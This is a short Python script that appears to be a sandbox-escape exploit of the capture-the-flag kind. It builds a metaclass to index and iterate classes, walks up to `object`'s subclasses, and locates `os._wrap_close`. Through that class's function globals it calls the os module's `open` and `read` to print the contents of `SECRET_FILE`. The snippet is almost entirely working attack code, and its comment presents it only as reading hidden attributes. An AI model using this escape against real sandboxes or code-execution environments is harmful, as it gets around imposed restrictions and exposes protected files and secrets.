# Reads hidden attributes through a metaclass, where classes are ordinary objects with methods.
class Meta(type):
    def __getitem__(cls, name):
        return super().__getattribute__(name)

    def __iter__(cls):
        return iter(type.__subclasses__(cls["mro"]()[-1]))


class Root(metaclass=Meta):
    pass


for child in Root:
    if "_wrap_close" in repr(child):
        names = object.__getattribute__(type.__getattribute__(child, "__init__"), "__globals__")
        print(names["read"](names["open"](SECRET_FILE, 0), 99))
